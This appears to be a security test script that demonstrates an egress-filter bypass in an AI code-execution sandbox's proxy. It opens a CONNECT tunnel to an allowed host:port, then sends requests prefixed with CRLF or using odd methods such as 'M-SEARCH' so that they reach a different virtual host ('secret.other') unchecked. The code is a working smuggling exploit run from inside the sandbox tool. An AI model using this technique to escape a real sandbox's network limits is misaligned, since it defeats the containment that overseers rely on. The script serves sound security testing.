#!/usr/bin/env python3
"""atk39 F1: a host listed with a port other than 443 ("vhost.test:8080") carries "any protocol
but plain HTTP" through CONNECT; the proxy's plain-HTTP check looks only at whether the tunnel's
first bytes are an upper-case method and a space. A request starting with CRLF (which HTTP servers
must/do ignore: RFC 9112 2.2), or whose method holds a '-' or lower-case letter, passes, and its
Host header names another site served at the listed address.
Needs: setup.sh; node; docker image mcpsandbox-test:bookworm. Run as root."""
import os, sys, subprocess, time, json
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from stdio import Stdio, text
D = os.path.dirname(os.path.abspath(__file__))
for f in os.listdir("/tmp/atk39"):
    if f.startswith("audit-eg.jsonl"): os.remove("/tmp/atk39/" + f)
srv = subprocess.Popen(["node", D + "/vhost_server.js", "8080"])
time.sleep(0.5)
env = dict(os.environ, MCPSANDBOX_EGRESS_STANDINS="vhost.test=127.0.0.1:8080,tls.test=127.0.0.1:8443",
           HOME="/tmp/atk39/home")
s = Stdio(["/tmp/atk39/mcpsandbox-th", "serve", "--policy", "/tmp/atk39/eg.toml"], env=env, err="/tmp/atk39/f1.serve.log")
code = r'''
import socket
def tunnel(payload):
    s = socket.create_connection(("127.0.0.1", 3128), timeout=10)
    s.sendall(b"CONNECT vhost.test:8080 HTTP/1.1\r\nHost: vhost.test:8080\r\n\r\n")
    hd = b""
    while b"\r\n\r\n" not in hd:
        hd += s.recv(1)
    s.sendall(payload)
    out = b""
    try:
        while True:
            b = s.recv(4096)
            if not b: break
            out += b
    except Exception as e:
        out += repr(e).encode()
    return hd.split(b"\r\n")[0].decode() + " | " + out.decode(errors="replace").replace("\r\n", " / ")[-160:]
req = b"/ HTTP/1.1\r\nHost: secret.other\r\nConnection: close\r\n\r\n"
print("control  GET      :", tunnel(b"GET " + req))
print("own host GET      :", tunnel(b"GET / HTTP/1.1\r\nHost: vhost.test\r\nConnection: close\r\n\r\n"))
print("CRLF then GET     :", tunnel(b"\r\nGET " + req))
print("method M-SEARCH   :", tunnel(b"M-SEARCH " + req))
'''
r = s.call("run_python_sandbox", {"code": code})
print(text(r))
s.close()
srv.terminate()
print("== audit (egress lines)")
for l in open("/tmp/atk39/audit-eg.jsonl"):
    d = json.loads(l)
    if d.get("tool") == "egress":
        a = d.get("arguments", {}); print(d["decision"], d["rule"], a.get("method"), a.get("host"), a.get("port"), "out", a.get("bytes_out"), "in", a.get("bytes_in"))
